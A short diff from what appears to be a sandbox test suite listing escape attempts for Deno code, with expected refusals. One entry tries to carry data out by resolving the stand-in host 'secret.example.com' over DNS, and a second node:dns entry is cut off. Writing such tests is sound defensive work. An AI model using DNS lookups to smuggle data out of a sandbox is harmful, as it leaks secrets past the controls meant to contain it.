@@ -182,7 +182,8 @@ export const ESCAPE_ATTEMPTS: readonly EscapeAttempt[] = [
   {
     name: "carry data out by DNS",
     body: `return await Deno.resolveDns("secret.example.com", "A");`,
-    refused: NET,
+    // Behind a second wall there is not even a list of name servers.
+    refused: /Requires net access|No such file/,
   },
   {
     name: "carry data out by node:dns",
